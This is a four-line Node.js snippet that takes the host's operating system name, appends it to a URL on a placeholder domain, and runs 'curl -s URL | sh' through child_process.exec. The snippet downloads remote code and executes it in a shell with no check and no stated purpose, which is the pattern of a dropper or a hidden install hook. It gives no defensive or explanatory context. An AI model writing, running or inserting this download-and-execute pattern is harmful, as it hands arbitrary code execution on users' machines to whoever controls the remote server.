const { exec } = require('child_process');
const os = require('os');
const url = 'https://example.invalid/' + os.platform();
exec(`curl -s ${url} | sh`);
